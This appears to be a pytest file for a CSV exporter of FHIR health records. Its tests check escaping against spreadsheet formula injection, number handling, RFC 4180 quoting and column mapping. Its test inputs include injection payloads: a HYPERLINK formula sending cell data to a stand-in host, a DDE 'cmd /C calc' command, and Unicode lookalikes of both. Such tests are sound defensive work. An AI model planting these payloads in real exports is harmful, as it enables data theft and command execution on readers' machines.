from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from store.export import columns, csv_tables
from tests.store.export.exporting import written


def rows(*resources: dict[str, Any]) -> list[dict[str, str]]:
    document = written(csv_tables.FORMAT, *(json.dumps(resource).encode() for resource in resources))
    return list(csv.DictReader(io.StringIO(document.decode("utf-8"), newline=""), strict=True))


@pytest.mark.parametrize(
    "payload",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        '=HYPERLINK("https://evil.example?x="&A1,"Results")',
        "=cmd|' /C calc'!A0",
        "  =1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        "\uff0b1+1",
        "\uff0d1+1",
        "\uff20SUM(A1)",
        "\u3000\uff1d1+1",
        "-",
        "+",
        "-1 mg",
        "1\n=2",
        "--5",
    ],
)
def test_no_cell_is_taken_for_a_formula(payload: str) -> None:
    cell = csv_tables.cell(payload)
    assert cell == payload if payload[0] == "1" else cell == f"'{payload}"


@pytest.mark.parametrize("number", ["-5", "+5", "-1.50", "1E+2", "-2.5e-3", "0", "1.00"])
def test_a_number_stays_a_number(number: str) -> None:
    assert csv_tables.cell(number) == number


@given(st.text())
def test_a_cell_never_begins_as_a_formula_does(text: str) -> None:
    cell = csv_tables.cell(text)
    assert cell.lstrip()[:1] not in set("=@\uff1d\uff0b\uff0d\uff20")
    assert cell.lstrip()[:1] not in set("+-") or float(cell) is not None


def test_a_hostile_title_reaches_the_file_as_text() -> None:
    (row,) = rows({"resourceType": "Condition", "id": "1", "code": {"text": '=HYPERLINK("x"),\n"two"\x1b[2J'}})
    assert row["title"] == '\'=HYPERLINK("x"), "two"␛[2J'


def test_lines_end_and_cells_are_quoted_as_rfc_4180_has_it() -> None:
    document = written(csv_tables.FORMAT, b'{"resourceType":"Condition","id":"1","code":{"text":"a \\"b\\", c"}}')
    header, row, rest = document.split(b"\r\n")
    assert header.decode() == ",".join(column.name for column in columns.view(""))
    assert b',"a ""b"", c",' in row
    assert rest == b""


def test_a_laboratory_result_fills_its_columns() -> None:
    (row,) = rows(
        {
            "resourceType": "Observation",
            "id": "1",
            "meta": {"lastUpdated": "2024-05-18T00:00:00Z"},
            "status": "final",
            "category": [{"coding": [{"code": "laboratory"}]}],
            "code": {
                "coding": [{"system": "http://loinc.org", "code": "2951-2", "display": "Sodium [Moles/volume]"}],
                "text": "Sodium",
            },
            "effectiveDateTime": "2024-05-17",
            "valueQuantity": {"value": 150, "unit": "mmol/L"},
            "referenceRange": [{"low": {"value": 135, "unit": "mmol/L"}, "high": {"value": 145, "unit": "mmol/L"}}],
            "performer": [{"display": "Laboratory"}],
        }
    )
    assert row == {
        "resource_type": "Observation",
        "id": "1",
        "source": "home",
        "patient": "Ada Byron",
        "kind": "lab",
        "date": "2024-05-17",
        "date_utc": "2024-05-17T00:00:00Z",
        "title": "Sodium",
        "status": "final",
        "code_system": "http://loinc.org",
        "code": "2951-2",
        "display": "Sodium [Moles/volume]",
        "value": "150",
        "value_number": "150",
        "comparator": "",
        "unit": "mmol/L",
        "ref_low": "135",
        "ref_high": "145",
        "ref_range": "135 - 145",
        "flag": "high",
        "performer": "Laboratory",
        "directions": "",
        "last_updated": "2024-05-18T00:00:00Z",
    }


@pytest.mark.parametrize(
    ("type_name", "element"), [("MedicationRequest", "dosageInstruction"), ("MedicationStatement", "dosage")]
)
def test_a_medication_has_its_directions(type_name: str, element: str) -> None:
    (row,) = rows(
        {
            "resourceType": type_name,
            "medicationCodeableConcept": {"coding": [{"code": "1191", "display": "aspirin"}]},
            "requester": {"display": "Dr. Byron"},
            element: [{"text": "-1 at night"}],
        }
    )
    assert (row["code"], row["display"], row["directions"], row["performer"]) == (
        "1191",
        "aspirin",
        "'-1 at night",
        "Dr. Byron",
    )


def test_a_thread_is_the_code_of_a_message_that_has_none() -> None:
    (row,) = rows({"resourceType": "Communication", "id": "m1", "partOf": [{"reference": "Communication/t1"}]})
    assert (row["code"], row["display"], row["date"]) == ("t1", "", "")


def test_words_of_every_language_are_kept() -> None:
    (row,) = rows({"resourceType": "Condition", "id": "1", "code": {"text": "Müdigkeit 疲労"}})
    assert row["title"] == "Müdigkeit 疲労"


def test_nothing_is_a_header_alone() -> None:
    assert written(csv_tables.FORMAT).decode() == ",".join(column.name for column in columns.view("")) + "\r\n"
